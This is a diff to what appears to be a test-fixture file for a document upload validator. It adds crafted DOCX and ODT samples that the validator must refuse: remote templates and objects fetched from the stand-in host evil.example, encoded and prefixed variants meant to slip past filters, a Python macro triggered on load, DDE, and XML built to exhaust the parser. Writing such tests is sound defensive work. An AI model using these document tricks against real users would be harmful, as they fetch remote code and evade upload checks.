@@ -57,6 +57,86 @@ def relation(kind: str) -> bytes:
     ).encode()
 
 
+def opened(inside: str) -> bytes:
+    """The content of an ODT that has this in it."""
+    return f'<office:document-content xmlns:office="o">{inside}</office:document-content>'.encode()
+
+
+def _source(href: str, element: str = "text:section-source") -> str:
+    return f'<{element} xlink:href="{href}"/>'
+
+
+_TEMPLATE = "word/_rels/settings.xml.rels"
+_FOREIGN = relation("attachedTemplate")
+_HEARS = (
+    '<script:event-listener script:event-name="dom:load" '
+    'xlink:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=share"/>'
+)
+SLY: dict[str, bytes] = {
+    "docx with a foreign template in single quotes": docx((_TEMPLATE, _FOREIGN.replace(b'"', b"'"))),
+    "docx with a foreign template behind a sign": docx(
+        (_TEMPLATE, _FOREIGN.replace(b'Id="9"', b'Id="9" A=">"'))
+    ),
+    "docx with a foreign template behind a sign in its place": docx(
+        (
+            _TEMPLATE,
+            _FOREIGN.replace(b'Target="https://evil.example/a.dotm"', b"").replace(
+                b"Relationship Id", b'Relationship Target="https://evil.example/a?>" Id'
+            ),
+        ),
+    ),
+    "docx with a foreign template in numbers": docx((_TEMPLATE, _FOREIGN.replace(b"dT", b"d&#84;"))),
+    "docx that is from elsewhere in numbers": docx((_TEMPLATE, _FOREIGN.replace(b"Ext", b"&#x45;xt"))),
+    "docx with a foreign template under a prefix": docx(
+        (_TEMPLATE, _FOREIGN.replace(b"<R", b"<p:R").replace(b"</R", b"</p:R"))
+    ),
+    "docx with a foreign template in capitals": docx((_TEMPLATE.replace("rels", "RELS"), _FOREIGN)),
+    "docx with a foreign template in two-byte letters": docx((_TEMPLATE, _FOREIGN.decode().encode("utf-16"))),
+    "docx with a foreign template in letters of seven bits": docx(
+        (_TEMPLATE, b"<?xml version='1.0' encoding='utf-7'?>" + _FOREIGN)
+    ),
+    "docx with a document type": docx((_TEMPLATE, b"<!DOCTYPE a><Relationships/>")),
+    "docx with relations that are none": docx((_TEMPLATE, b"<Relationship " * 6_000)),
+    "docx with more relations than are read": docx(
+        (_TEMPLATE, b"<Relationships>" + b" " * 1_048_576 + b"</Relationships>")
+    ),
+    "docx with foreign text": docx((_TEMPLATE, relation("aFChunk"))),
+    "docm in numbers": docx(types=b'<Override ContentType="application/x.macro&#69;nabled.main+xml"/>'),
+    "docx with a part twice, once in capitals": docx(("word/A.xml", b"<a/>"), ("word/a.xml", b"<a/>")),
+    "odt that does something when it is opened": odt(text=opened(_HEARS)),
+    "odt that does something, under a prefix": odt(text=opened(_HEARS.replace("script:e", "x:e"))),
+    "odt with a link that runs something": odt(text=opened(_source("vnd.sun.star.script:a", "text:a"))),
+    "odt with a foreign section": odt(text=opened(_source("https://evil.example/a.odt"))),
+    "odt with a foreign section in numbers": odt(text=opened(_source("&#104;ttps://evil.example/a.odt"))),
+    "odt with a section of another machine": odt(text=opened(_source("file:////evil.example/a.odt"))),
+    "odt with a section of a share": odt(text=opened(_source(r"\\\\evil.example\\a.odt"))),
+    "odt with a section without a scheme": odt(text=opened(_source("//evil.example/a.odt"))),
+    "odt with a foreign object": odt(text=opened(_source("https://evil.example/a", "draw:object"))),
+    "odt with a foreign object of another kind": odt(
+        text=opened(_source("https://evil.example/a", "draw:object-ole"))
+    ),
+    "odt with a foreign frame": odt(text=opened(_source("https://evil.example/", "draw:floating-frame"))),
+    "odt with a foreign object in an object": odt(
+        ("Object 1/content.xml", opened(_source("https://evil.example/a", "draw:object")))
+    ),
+    "odt with a foreign template": odt(
+        ("meta.xml", opened(_source("https://evil.example/a.ott", "meta:template")))
+    ),
+    "odt with a foreign object in its styles": odt(
+        ("styles.xml", opened(_source("https://evil.example/a", "draw:object")))
+    ),
+    "odt that asks another program": odt(text=opened('<office:dde-source office:dde-item="a"/>')),
+    "odt with a document type": odt(text=b"<!DOCTYPE a><a/>"),
+    "odt with one long word": odt(text=b"<a><!--" + b"x" * 600_000 + b"--></a>"),
+    "odt that is not whole": odt(text=b"<office>"),
+    "odt of more elements than are counted": odt(text=b"<a>" + b"<b/>" * 1_000_000 + b"</a>"),
+    "odt of more attributes than are counted": odt(
+        text=b"<a>" + (b"<b " + b" ".join(b"a%d=''" % n for n in range(999)) + b"/>") * 1_001 + b"</a>"
+    ),
+}
+"""Texts that run or fetch something, said in other words, and texts that take long to read."""
+
+
 def pdf(more: bytes = b"") -> bytes:
     """A page with nothing on it."""
     return (
@@ -167,6 +247,21 @@ GOOD: dict[str, tuple[bytes, str]] = {
     "png with html": (pictures.GOOD["png with html"], "image/png"),
     "pdf": (pdf(), "application/pdf"),
     "odt": (odt(), ODT),
+    "odt with an object and a template of one's own": (
+        odt(
+            ("meta.xml", opened(_source("../../Templates/Letter.ott", "meta:template"))),
+            ("styles.xml", opened(_source("file:///C:/Templates/a.ott", "meta:template"))),
+            ("Object 1/content.xml", opened("")),
+            text=opened(
+                _source("./Object 1", "draw:object")
+                + _source("https://a.example", "text:a")
+                + _source("https://a.example/a.png", "draw:image")
+                + "<office:scripts/>"
+            ),
+        ),
+        ODT,
+    ),
+    "odt of a long text": (odt(text=opened("<text:p>a</text:p>" * 20_000 + "a" * 900_000)), ODT),
     "docx": (docx(), DOCX),
     "opus in webm": (webm(), "audio/webm"),
     "two minutes in webm": (webm(120), "audio/webm"),
@@ -198,6 +293,7 @@ REFUSED: dict[str, bytes] = {
     ),
     "docx with a foreign template": docx(("word/_rels/settings.xml.rels", relation("attachedTemplate"))),
     "docx with a foreign object": docx(("word/_rels/a.xml.rels", relation("oleObject"))),
+    **SLY,
     "docx with controls": docx(("word/activeX/activeX1.bin", b"x")),
     "docx with a program": docx(("word/embeddings/a.exe", b"MZ")),
     "docx and html before it": HTML + docx(),
